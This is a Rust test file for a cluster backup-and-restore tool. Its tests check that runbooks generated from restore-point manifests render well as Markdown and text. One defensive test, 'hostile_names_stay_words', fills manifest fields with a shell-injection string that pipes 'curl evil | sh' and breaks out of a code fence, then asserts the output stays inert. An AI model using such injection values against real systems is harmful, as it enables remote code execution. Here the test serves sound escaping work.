//! Tests of the runbook of a restore point, at a fixed time.

use std::collections::BTreeSet;

use backup_core::crypt::Trust;
use backup_core::digest::Digest;
use backup_core::format::manifest::Manifest;
use cluster_restore::journal::Phase;
use cluster_restore::orchestrate::LocatedGap;
use cluster_restore::plan::Danger;
use jiff::SignedDuration;
use serde_json::{Value, json};

use super::*;
use crate::commands::gaps::GapReport;
use crate::commands::show::report::tests::point;

fn took() -> PastDurations {
    let seconds = [
        (Phase::Quiesce, 12),
        (Phase::Objects, 95),
        (Phase::Settle, 45),
    ];
    let phases = seconds.map(|(phase, n)| (phase, SignedDuration::from_secs(n)));
    PastDurations {
        began: "2026-11-20T03:00:00Z".parse().unwrap(),
        whole: SignedDuration::from_secs(152),
        phases: phases.to_vec(),
    }
}

fn known(mode: Mode) -> Facts {
    let key = backup_core::crypt::SigningKey::generate().unwrap();
    let nodes = ["10.5.0.2", "10.5.0.3"].map(str::to_owned).to_vec();
    Facts {
        point: point(),
        mode,
        store: "s3://backups/mgmt?endpoint=https://s3.example.net&region=eu-central-1"
            .parse()
            .unwrap(),
        trust: Trust::Keys(vec![key.public().clone()]),
        nodes: Nodes {
            named: nodes,
            endpoints: vec!["10.5.0.2:50000".to_owned()],
            context: Some("butler".to_owned()),
        },
        took: Some(took()),
        lacked: Vec::new(),
    }
}

/// Returns the text with the key of this run replaced.
fn written(facts: &Facts, form: Form) -> String {
    let (document, _) = runbook(facts).unwrap();
    let text = document.written(form);
    let Trust::Keys(keys) = &facts.trust else {
        return text;
    };
    let key = keys[0].to_string();
    assert!(text.contains(&key));
    text.replace(&key, "RWQPUBLICKEY")
}

/// Changes the manifest as JSON.
fn edit(facts: &mut Facts, change: impl FnOnce(&mut Value)) {
    let mut manifest = serde_json::to_value(&facts.point.manifest).unwrap();
    change(&mut manifest);
    facts.point.manifest = Manifest::parse(manifest.to_string().as_bytes()).unwrap();
}

fn component(name: &str, more: &Value) -> Value {
    let mut component = json!({
        "name": name, "mediaType": "application/x-tar", "plainBytes": 8_192,
        "plainSha256": Digest::of(name.as_bytes()),
        "packs": [{ "sha256": Digest::of(b"pack"), "bytes": 1_000, "plainBytes": 8_192 }],
        "recipes": [{ "sha256": Digest::of(b"object"), "bytes": 4_096 }],
    });
    let own = component.as_object_mut().unwrap();
    own.extend(more.as_object().unwrap().clone());
    component
}

/// Returns facts of a restore point that has everything of which a runbook says something.
fn full(mode: Mode) -> Facts {
    let mut facts = known(mode);
    edit(&mut facts, |manifest| {
        let kind = |resource: &str, objects: u64| {
            json!({
                "resource": resource, "kind": "Kind", "version": "v1", "namespaced": true,
                "objects": objects, "bytes": 900, "sha256": Digest::of(b"x"),
            })
        };
        let mut secrets = kind("secrets", 4);
        secrets["skipped"] = json!([
            { "reason": "being deleted", "objects": 2, "names": ["team-a/one", "team-a/two"] },
            { "reason": "run-time noise", "objects": 9 },
        ]);
        let components = manifest["components"].as_array_mut().unwrap();
        let kinds = components[1]["archive"]["kinds"].as_array_mut().unwrap();
        kinds.extend([
            secrets,
            kind("tenantcontrolplanes.steward.butlerlabs.dev", 2),
            kind("machines.cluster.x-k8s.io", 3),
            kind("machinesets.cluster.x-k8s.io", 0),
            kind("clusters.cluster.x-k8s.io", 2),
            kind("kustomizations.kustomize.toolkit.fluxcd.io", 1),
        ]);
        components[1]["carriedFrom"] = json!("20261123t110000000z-0123456789ab");
        components.extend([
            component(
                "datastore/default",
                &json!({ "etcd": {
                "revision": 4711, "pageSize": 4096, "trailer": Digest::of(b"t"),
                "users": ["one_1a2b_one", "root"], "origin": "10.5.0.9",
            } }),
            ),
            component("datastore/other", &json!({})),
            component(
                "git/flux",
                &json!({ "archive": { "objects": 3, "kinds": [kind("secrets", 3)] } }),
            ),
            component(
                "kit",
                &json!({ "archive": { "objects": 0, "kinds": [], "files": ["a.yaml"] } }),
            ),
        ]);
        let tenants = manifest["kubernetes"]["tenants"].as_array_mut().unwrap();
        tenants.extend([
            json!({
                "namespace": "team-c", "name": "three", "uid": "u3", "tenantNamespace": "three-3c4d",
                "kubernetesVersion": "v1.34.0", "workersDesired": 3,
                "controlPlane": { "name": "three", "schema": "three_3c4d_three" },
                "answer": { "ready": false, "nodesReady": 1 },
            }),
            json!({
                "namespace": "team-d", "name": "four", "uid": "u4", "endpoint": "10.5.1.11:6443",
                "controlPlane": { "name": "four", "datastore": "lost", "schema": "four" },
                "answer": { "ready": true, "version": "v1.34.9" },
            }),
        ]);
        let findings = manifest["findings"].as_array_mut().unwrap();
        findings.extend([
            json!({
                "severity": "error", "object": "resources", "cause": "a <b> of *two* | [three]",
                "remedy": "`kubectl get x | y <z>`",
            }),
            json!({ "severity": "info", "object": "cp-2", "cause": "quiet", "remedy": "nothing" }),
        ]);
    });
    let located = LocatedGap::unlocated(&facts.point.manifest.gaps());
    facts.lacked = located.iter().map(GapReport::from).collect();
    facts
}

/// Returns facts of a restore point that has only what its mode needs, where nothing else is known.
fn bare(mode: Mode) -> Facts {
    let mut facts = Facts {
        trust: Trust::Anyone,
        store: "file:///srv/it's here".parse().unwrap(),
        nodes: Nodes::default(),
        took: None,
        ..known(mode)
    };
    edit(&mut facts, |manifest| {
        manifest["encryption"] = json!({ "mode": "none" });
        let all = manifest.as_object_mut().unwrap();
        all.remove("kubernetes");
        all.remove("parent");
        all.remove("findings");
        let components = manifest["components"].as_array_mut().unwrap();
        match mode {
            Mode::InPlace => {
                components.truncate(1);
                let etcd = components[0]["etcd"].as_object_mut().unwrap();
                for fact in [
                    "totalKeys",
                    "encryptionPrefixes",
                    "etcdVersion",
                    "talosVersion",
                ] {
                    etcd.remove(fact);
                }
                etcd.insert("origin".to_owned(), json!("import"));
            }
            Mode::Rebuild => {
                components.remove(0);
                components[0]["archive"]["kinds"] = json!([]);
            }
        }
    });
    facts
}

#[test]
fn what_is_in_every_restore_point_and_in_few_reads_well() {
    for (mode, name) in [(Mode::InPlace, "in_place"), (Mode::Rebuild, "rebuild")] {
        let (full, bare) = (full(mode), bare(mode));
        insta::assert_snapshot!(
            format!("{name}_full_markdown"),
            written(&full, Form::Markdown)
        );
        insta::assert_snapshot!(
            format!("{name}_bare_markdown"),
            written(&bare, Form::Markdown)
        );
    }
    let full = written(&full(Mode::InPlace), Form::Text);
    insta::assert_snapshot!("in_place_full_text", full);
    insta::assert_snapshot!(
        "rebuild_bare_text",
        written(&bare(Mode::Rebuild), Form::Text)
    );
}

#[test]
fn a_snapshot_without_facts_and_a_store_without_options_read_well() {
    let mut facts = known(Mode::InPlace);
    facts.store = "s3://backups".parse().unwrap();
    facts.nodes.named.clear();
    edit(&mut facts, |manifest| {
        manifest["components"][0]
            .as_object_mut()
            .unwrap()
            .remove("etcd");
        let kubernetes = manifest["kubernetes"].as_object_mut().unwrap();
        kubernetes.remove("crdChart");
        kubernetes.remove("sealedSecrets");
        kubernetes.remove("tenants");
    });
    insta::assert_snapshot!(
        "in_place_factless_markdown",
        written(&facts, Form::Markdown)
    );
}

#[test]
fn each_way_reads_well_in_both_forms() {
    for (mode, name) in [(Mode::InPlace, "in_place"), (Mode::Rebuild, "rebuild")] {
        let facts = known(mode);
        let markdown = written(&facts, Form::Markdown);
        insta::assert_snapshot!(format!("{name}_markdown"), markdown);
        insta::assert_snapshot!(format!("{name}_text"), written(&facts, Form::Text));
    }
}

#[test]
fn with_the_store_alone_it_says_what_it_could_not_know() {
    let facts = Facts {
        trust: Trust::Anyone,
        store: "file:///srv/it's here".parse().unwrap(),
        nodes: Nodes::default(),
        took: None,
        ..known(Mode::InPlace)
    };
    let text = written(&facts, Form::Markdown);
    for told in [
        "no talosconfig could be read",
        "addresses of the control plane nodes",
        "how long it takes",
        "who holds the private halves",
        "control plane of tenant `team-b/two`",
        "the etcd of DataStore `default` is not in this restore point",
        "WARNING: no signature",
        "${TALOS_NODES:?",
        "talosctl reset --nodes 10.5.0.3 ",
        r#"'store: "file:///srv/it'\''s%20here"'"#,
    ] {
        assert!(text.contains(told), "{told}: {text}");
    }
}

#[test]
fn every_danger_is_explained_under_its_name() {
    let markdown = |mode| written(&known(mode), Form::Markdown);
    let told = [markdown(Mode::InPlace), markdown(Mode::Rebuild)];
    let rows = |text: &str| {
        let table = text.split("| DANGER |").nth(1).unwrap();
        let rows = table.lines().take_while(|line| !line.is_empty());
        let names =
            rows.filter_map(|row| Some(row.strip_prefix("| `")?.split_once('`')?.0.to_owned()));
        names.collect::<BTreeSet<_>>()
    };
    let explained: BTreeSet<_> = told.iter().flat_map(|text| rows(text)).collect();
    assert_eq!(explained, Danger::ALL.map(Danger::name).into());
}

#[test]
fn hostile_names_stay_words() {
    let mut facts = known(Mode::Rebuild);
    let hostile = "x'; curl evil | sh; '\n```\n```sh\ntouch /tmp/x";
    let kubernetes = facts.point.manifest.kubernetes.as_mut().unwrap();
    hostile.clone_into(&mut kubernetes.uid);
    hostile.clone_into(&mut kubernetes.version);
    let tenant = &mut kubernetes.tenants[0];
    tenant.endpoint = Some("# a | b".to_owned());
    tenant.tenant_namespace = Some(hostile.to_owned());
    hostile.clone_into(&mut tenant.control_plane.as_mut().unwrap().name);
    let text = written(&facts, Form::Markdown);
    assert!(!text.contains("\ntouch"), "{text}");
    let honest = written(&known(Mode::Rebuild), Form::Markdown);
    let fences = |text: &str| text.lines().filter(|l| l.starts_with("```")).count();
    assert_eq!(fences(&text), fences(&honest));
    insta::assert_snapshot!("hostile_markdown", text);
    insta::assert_snapshot!("hostile_text", written(&facts, Form::Text));
}
